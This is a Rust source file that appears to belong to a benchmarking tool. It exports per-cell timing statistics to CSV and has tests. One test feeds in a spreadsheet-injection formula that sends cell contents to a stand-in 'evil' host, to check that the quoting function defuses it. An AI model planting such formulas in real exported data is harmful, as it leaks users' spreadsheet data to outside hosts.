use crate::results::{CellStatus, ResultsFile};

const HEADER: &str = "model,workers,status,runs,median_s,median_ci_low_s,median_ci_high_s,median_ci_coverage,min_s,max_s,mean_s,stddev_s,mean_ci95_low_s,mean_ci95_high_s,outliers,outlier_runs,speedup,speedup_low,speedup_high,speedup_ci_low,speedup_ci_high,efficiency,efficiency_pct,cpu_median_s,cpu_utilisation,work_vs_baseline,startup_s,checksum,lost_updates,gb_per_s,peak_rss_bytes,pss_bytes,uss_bytes,processes,voluntary_switches,involuntary_switches,migrations,ipc_bytes,error,speedup_ci_coverage,lost_updates_max,runs_with_lost_updates,import_s,baseline,precision_target,precision_achieved,precision_met,added_rss_bytes";

/// A number with six decimals, and at least six significant digits below 0.1 (a 53 µs median
/// is `0.0000528100`, not `0.000053`, so its interval and a speedup worked out from the CSV keep
/// their precision).
fn decimal(x: f64) -> String {
    let magnitude = if x == 0.0 || !x.is_finite() {
        0
    } else {
        x.abs().log10().floor() as i32
    };
    let decimals = (5 - magnitude).clamp(6, 20) as usize;
    format!("{x:.decimals$}")
}

/// A coverage (a probability): `0` and `1` exactly where rounding left a residue (one run's
/// "coverage" works out as 8.9e-16), else six decimals.
fn coverage(p: f64) -> String {
    if p.abs() < 1e-9 {
        "0".into()
    } else if (p - 1.0).abs() < 1e-9 {
        "1".into()
    } else {
        format!("{p:.6}")
    }
}

/// One row per cell with its summary, speedup and efficiency (RFC 4180 quoting). The
/// intervals are left empty where there is none, by the table's rule: one run has no
/// interval of its median or mean (its "interval" is the run itself), and a speedup whose
/// cell or baseline has one run has none either (the table's `1 run, no interval`). The
/// median's and the speedup's intervals are the order-statistic ones, whose coverage (below
/// 0.95 with fewer than 6 runs) is in `median_ci_coverage` and `speedup_ci_coverage`; the
/// mean's is Student's t at 95%.
pub fn summary_csv(results: &ResultsFile) -> String {
    let mut out = String::from(HEADER);
    out.push('\n');
    let baselines = results.baselines();
    for cell in &results.cells {
        let w = cell.wall.as_ref();
        let num = |v: Option<f64>| v.map_or(String::new(), decimal);
        // One run: no interval of the median or the mean (see above).
        let interval = cell.wall.as_ref().filter(|s| s.n > 1);
        let speedup_interval = super::cell_text::no_speedup_interval(cell).is_none();
        let speedup_ci = |v: Option<f64>| num(v.filter(|_| speedup_interval));
        let opt = |v: Option<u64>| v.map_or(String::new(), |x| x.to_string());
        let costs = cell.costs.as_ref();
        let row = [
            cell.model_id().to_string(),
            cell.workers.to_string(),
            match cell.status {
                CellStatus::Ok => "ok",
                CellStatus::Failed => "failed",
                CellStatus::Cancelled => "cancelled",
            }
            .to_string(),
            cell.samples.len().to_string(),
            num(w.map(|s| s.median)),
            num(interval.map(|s| s.median_ci_low)),
            num(interval.map(|s| s.median_ci_high)),
            w.map_or(String::new(), |s| coverage(s.median_ci_coverage)),
            num(w.map(|s| s.min)),
            num(w.map(|s| s.max)),
            num(w.map(|s| s.mean)),
            num(w.map(|s| s.stddev)),
            num(interval.map(|s| s.ci95_low)),
            num(interval.map(|s| s.ci95_high)),
            w.map_or(String::new(), |s| s.outliers.len().to_string()),
            // 1-based run numbers, separated by spaces.
            w.map_or(String::new(), |s| {
                let runs: Vec<String> = s.outliers.iter().map(|i| (i + 1).to_string()).collect();
                runs.join(" ")
            }),
            num(cell.speedup),
            num(cell.speedup_low),
            num(cell.speedup_high),
            speedup_ci(cell.speedup_ci_low),
            speedup_ci(cell.speedup_ci_high),
            num(cell.efficiency),
            num(cell.efficiency.map(super::chart_model::percent)),
            num(cell.cpu.as_ref().map(|s| s.median)),
            num(cell.cpu_utilisation),
            num(cell.work_vs_baseline),
            num(cell.startup_s),
            cell.checksum().map_or(String::new(), |c| c.to_string()),
            cell.lost_updates.map_or(String::new(), |l| l.to_string()),
            num(cell.gb_per_s),
            opt(cell.peak_rss_bytes),
            opt(costs.and_then(|k| k.pss_bytes)),
            opt(costs.and_then(|k| k.uss_bytes)),
            opt(costs.map(|k| k.processes as u64)),
            opt(costs.map(|k| k.voluntary_switches)),
            opt(costs.map(|k| k.involuntary_switches)),
            opt(costs.and_then(|k| k.migrations)),
            opt(costs.and_then(|k| k.ipc_bytes)),
            cell.error.clone().unwrap_or_default(),
            // Added after `error`, so that readers by position keep working.
            cell.speedup_ci_coverage.map_or(String::new(), coverage),
            cell.lost_updates_max
                .map_or(String::new(), |l| l.to_string()),
            cell.runs_with_lost_updates
                .map_or(String::new(), |n| n.to_string()),
            // Python function tasks: the part of startup_s that imported the user's module.
            num(cell.import_s),
            // What `speedup` and `work_vs_baseline` are measured against.
            baselines.of(cell.model).name(),
            // The target, the precision reached (the wider side of the median's 95% interval,
            // the larger of median − low and high − median, ÷ median) and whether a complete
            // cell met it.
            num((results.experiment.precision > 0.0).then_some(results.experiment.precision)),
            num(super::cell_text::precision(cell)),
            super::cell_text::precision_target_met(results, cell)
                .map_or(String::new(), |met| met.to_string()),
            // The memory the run added (the memory chart's figure), the largest over the
            // cell's measured runs; empty where it was not recorded (a kernel that refused to
            // reset the peak, files from before it, cells with no measured run).
            opt(cell.added_rss_bytes),
        ];
        let quoted: Vec<String> = row.iter().map(|f| quote(f)).collect();
        out.push_str(&quoted.join(","));
        out.push('\n');
    }
    out
}

/// A CSV field: control characters shown as escapes and line breaks as spaces (text from
/// files, such as an error message); text a spreadsheet would run as a formula (starting
/// with `=`, `+`, `-`, `@`, a tab or a carriage return, and not a number) prefixed with `'`;
/// quoted where it holds a comma or a quote.
fn quote(field: &str) -> String {
    let field = crate::export::sanitize::for_terminal_line(field);
    let mut field = field.into_owned();
    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) && field.parse::<f64>().is_err() {
        field.insert(0, '\'');
    }
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::preset::ModelKind;
    use crate::results::{CellResult, Sample};

    #[test]
    fn csv_has_a_row_per_cell_and_quotes_errors() {
        let mut r = ResultsFile::default();
        r.cells.push(CellResult {
            model: Some(ModelKind::Sequential),
            workers: 1,
            samples: vec![
                Sample {
                    wall_s: 2.0,
                    ..Sample::default()
                },
                Sample {
                    wall_s: 4.0,
                    ..Sample::default()
                },
            ],
            ..CellResult::default()
        });
        r.cells.push(CellResult {
            model: Some(ModelKind::Processes),
            workers: 2,
            status: CellStatus::Failed,
            error: Some("worker 1 said \"no\", twice".into()),
            ..CellResult::default()
        });
        r.recompute();
        let csv = summary_csv(&r);
        let lines: Vec<&str> = csv.lines().collect();
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[0], HEADER);
        // Two runs: the median CI is their range, with coverage 1 − 2 · 1/4 = 0.5.
        assert!(
            lines[1].starts_with(
                "sequential,1,ok,2,3.000000,2.000000,4.000000,0.500000,2.000000,4.000000,3.000000,"
            ),
            "{}",
            lines[1]
        );
        assert!(
            lines[1].contains(",1.000000,"),
            "baseline speedup is 1: {}",
            lines[1]
        );
        assert!(
            // The error, then the speedup interval's coverage (none: the cell failed), the
            // lost updates' maximum and runs (none: not a contention task) and the module's
            // import (none: not a function task), then the baseline it is measured against,
            // no precision target, and no memory added (no measured run).
            lines[2].ends_with(",\"worker 1 said \"\"no\"\", twice\",,,,,sequential × 1,,,,"),
            "{}",
            lines[2]
        );
        assert_eq!(lines[2].split(',').count(), HEADER.split(',').count() + 1);
        let header: Vec<&str> = lines[0].split(',').collect();
        // Columns are only ever added at the end, so that readers by position keep working.
        assert_eq!(
            header[header.len() - 10..],
            [
                "error",
                "speedup_ci_coverage",
                "lost_updates_max",
                "runs_with_lost_updates",
                "import_s",
                "baseline",
                "precision_target",
                "precision_achieved",
                "precision_met",
                "added_rss_bytes"
            ]
        );
    }

    /// The memory a run added, which the memory chart plots, is the last column, after every
    /// column that was there before it (whose positions are unchanged); empty where the file
    /// has none.
    #[test]
    fn the_memory_a_run_added_is_the_last_column_and_empty_where_not_recorded() {
        let mut r = ResultsFile::default();
        let mut measured = CellResult::with_walls(ModelKind::Processes, 2, &[1.0; 3]);
        measured.peak_rss_bytes = Some(90 << 20);
        measured.added_rss_bytes = Some(12 << 20);
        r.cells.push(measured);
        let mut old_file = CellResult::with_walls(ModelKind::Threads, 2, &[1.0; 3]);
        old_file.peak_rss_bytes = Some(80 << 20);
        r.cells.push(old_file);
        let csv = summary_csv(&r);
        let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
        let names = &rows[0];
        assert_eq!(names.last(), Some(&"added_rss_bytes"));
        assert_eq!(names.iter().position(|h| *h == "precision_met"), Some(46));
        assert_eq!(names.iter().position(|h| *h == "peak_rss_bytes"), Some(30));
        for row in &rows[1..] {
            assert_eq!(row.len(), names.len(), "{row:?}");
        }
        assert_eq!(rows[1].last(), Some(&"12582912"));
        assert_eq!(rows[1][30], "94371840");
        assert_eq!(rows[2].last(), Some(&""));
        assert_eq!(rows[2][30], "83886080");
    }

    #[test]
    fn a_function_task_s_module_import_has_its_column() {
        let mut r = ResultsFile::default();
        let mut cell = CellResult::with_walls(ModelKind::PyMultiprocessing, 2, &[1.0; 3]);
        cell.startup_s = Some(2.5);
        cell.import_s = Some(2.0);
        r.cells.push(cell);
        r.cells
            .push(CellResult::with_walls(ModelKind::Threads, 2, &[1.0; 3]));
        let csv = summary_csv(&r);
        let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
        let column = |name: &str| rows[0].iter().position(|h| *h == name).unwrap();
        assert_eq!(rows[1][column("startup_s")], "2.500000");
        assert_eq!(rows[1][column("import_s")], "2.000000");
        // No module, no figure.
        assert_eq!(rows[2][column("import_s")], "");
    }

    #[test]
    fn short_times_keep_six_significant_digits() {
        // A 53 µs median with six decimals was 0.000053: its interval collapsed to zero width
        // and a speedup worked out from the CSV was off by up to 5%.
        assert_eq!(decimal(0.00005281), "0.0000528100");
        assert_eq!(decimal(0.000007531), "0.00000753100");
        assert_eq!(decimal(0.0123456789), "0.0123457");
        // From 0.1 up, six decimals as before.
        assert_eq!(decimal(0.5), "0.500000");
        assert_eq!(decimal(1234.5), "1234.500000");
        assert_eq!(decimal(0.0), "0.000000");
        assert_eq!(decimal(-0.00005281), "-0.0000528100");
    }

    #[test]
    fn each_row_names_its_baseline_and_the_precision_it_reached() {
        let walls = [1.0, 1.001, 0.999, 1.0, 1.002, 0.998, 1.0];
        let mut r = ResultsFile::default();
        r.experiment.precision = 0.02;
        r.cells
            .push(CellResult::with_walls(ModelKind::Sequential, 1, &walls));
        r.cells.push(CellResult::with_walls(
            ModelKind::Threads,
            2,
            &[0.5, 0.9, 0.2],
        ));
        r.recompute();
        let csv = summary_csv(&r);
        let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
        let column = |name: &str| rows[0].iter().position(|h| *h == name).unwrap();
        assert_eq!(rows[1][column("baseline")], "sequential × 1");
        assert_eq!(rows[2][column("baseline")], "sequential × 1");
        assert_eq!(rows[1][column("precision_target")], "0.0200000");
        let reached: f64 = rows[1][column("precision_achieved")].parse().unwrap();
        assert!(reached <= 0.02, "{reached}");
        assert_eq!(rows[1][column("precision_met")], "true");
        // Three runs have no 95% interval: nothing reached, target not met.
        assert_eq!(rows[2][column("precision_achieved")], "");
        assert_eq!(rows[2][column("precision_met")], "false");
        // Against each model's own one worker, the row says which.
        r.experiment.baseline = crate::preset::Baseline::SameModelOneWorker;
        r.experiment.precision = 0.0;
        let csv = summary_csv(&r);
        let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
        assert_eq!(rows[2][column("baseline")], "threads × 1");
        assert_eq!(rows[2][column("precision_target")], "");
        assert_eq!(rows[2][column("precision_met")], "");
    }

    #[test]
    fn lost_updates_have_their_median_maximum_and_runs_with_any() {
        // A contention task (only a counter has lost updates) asking 10 000 increments a worker.
        let mut r = ResultsFile::default();
        r.experiment.task.kind = crate::preset::TaskKind::Contention;
        r.experiment.task.contention.increments = 10_000;
        let mut cell = CellResult::with_walls(ModelKind::Processes, 2, &[1.0; 5]);
        // Lost in 2 runs of 5: the median is 0, which alone would hide them.
        for (sample, lost) in cell.samples.iter_mut().zip([0, 3586, 0, 12, 0]) {
            sample.lost_updates = Some(lost);
        }
        r.cells.push(cell);
        r.recompute();
        let csv = summary_csv(&r);
        let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
        let column = |name: &str| rows[0].iter().position(|h| *h == name).unwrap();
        assert_eq!(rows[1][column("lost_updates")], "0");
        assert_eq!(rows[1][column("lost_updates_max")], "3586");
        assert_eq!(rows[1][column("runs_with_lost_updates")], "2");
        let json: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
        let cell = &json["cells"][0];
        assert_eq!(cell["lost_updates"], 0);
        assert_eq!(cell["lost_updates_max"], 3586);
        assert_eq!(cell["runs_with_lost_updates"], 2);
    }

    #[test]
    fn the_speedups_interval_has_its_columns() {
        let mut r = ResultsFile::default();
        let runs = [0.9, 0.95, 1.0, 1.05, 1.1];
        r.cells.push(CellResult::with_walls(
            ModelKind::Sequential,
            1,
            &runs.map(|t| t * 2.0),
        ));
        r.cells
            .push(CellResult::with_walls(ModelKind::Threads, 2, &runs));
        r.recompute();
        let csv = summary_csv(&r);
        let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
        let column = |name: &str| rows[0].iter().position(|h| *h == name).unwrap();
        let (low, high) = (column("speedup_ci_low"), column("speedup_ci_high"));
        // The baseline is 1× by definition: no interval.
        assert_eq!((rows[1][low], rows[1][high]), ("", ""));
        let threads = &r.cells[1];
        assert_eq!(
            rows[2][low],
            format!("{:.6}", threads.speedup_ci_low.unwrap())
        );
        assert_eq!(
            rows[2][high],
            format!("{:.6}", threads.speedup_ci_high.unwrap())
        );
        assert!(threads.speedup_ci_low < Some(2.0) && threads.speedup_ci_high > Some(2.0));
        // Five runs each: the lower coverage of the two median intervals, 1 − 2/32, below
        // 95%; the baseline has no interval, so no coverage either.
        let coverage = column("speedup_ci_coverage");
        assert_eq!(rows[2][coverage], "0.937500");
        assert_eq!(rows[1][coverage], "");
    }

    #[test]
    fn no_run_or_coverage_is_passed_off_as_an_interval() {
        // The reviewer's few.json: sequential 2 runs, threads × 1 one run, × 2 two, × 4 three.
        let mut r = ResultsFile::default();
        for (model, workers, walls) in [
            (ModelKind::Sequential, 1, &[0.30, 0.34][..]),
            (ModelKind::Threads, 1, &[0.33][..]),
            (ModelKind::Threads, 2, &[0.16, 0.17][..]),
            (ModelKind::Threads, 4, &[0.08, 0.09, 0.10][..]),
        ] {
            r.cells.push(CellResult::with_walls(model, workers, walls));
        }
        r.recompute();
        let csv = summary_csv(&r);
        let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
        let column = |name: &str| rows[0].iter().position(|h| *h == name).unwrap();
        let get = |row: usize, name: &str| rows[row][column(name)];
        // No column claims 95% for what is not: the order-statistic intervals are named with
        // their coverage next to them.
        assert!(
            !rows[0]
                .iter()
                .any(|h| h.contains("ci95") && !h.starts_with("mean_"))
        );
        // One run: no interval of the median, the mean or the speedup; coverage exactly 0.
        for name in [
            "median_ci_low_s",
            "median_ci_high_s",
            "mean_ci95_low_s",
            "mean_ci95_high_s",
            "speedup_ci_low",
            "speedup_ci_high",
        ] {
            assert_eq!(get(2, name), "", "{name}: {}", rows[2].join(","));
        }
        assert_eq!(get(2, "median_ci_coverage"), "0");
        assert_eq!(get(2, "median_s"), "0.330000");
        // Two runs: their range, at 50%, says so; the mean's t-interval is a true 95% one.
        assert_eq!(
            (get(1, "median_ci_low_s"), get(1, "median_ci_high_s")),
            ("0.300000", "0.340000")
        );
        assert_eq!(get(1, "median_ci_coverage"), "0.500000");
        assert!(!get(1, "mean_ci95_low_s").is_empty());
        // The speedups over a 2-run baseline: 50% intervals, labelled 50%.
        assert!(!get(3, "speedup_ci_low").is_empty());
        assert_eq!(get(3, "speedup_ci_coverage"), "0.500000");
        assert_eq!(get(4, "speedup_ci_coverage"), "0.500000");
        // The baseline's own cell has no speedup interval at all.
        assert_eq!(get(1, "speedup_ci_low"), "");
        assert_eq!(coverage(8.881784197001252e-16), "0");
        assert_eq!(coverage(1.0 - 1e-15), "1");
        assert_eq!(coverage(0.9375), "0.937500");
    }

    #[test]
    fn fields_a_spreadsheet_would_run_are_defused() {
        assert_eq!(
            quote("=HYPERLINK(\"http://evil/\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(quote("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(quote("+1+1"), "'+1+1");
        // Numbers stay numbers.
        assert_eq!(quote("-0.005675"), "-0.005675");
        assert_eq!(quote("+3"), "+3");
        // Control characters and line breaks from files.
        assert_eq!(quote("bad\u{1b}[31m\nline"), "bad\\u{1b}[31m line");
    }
}
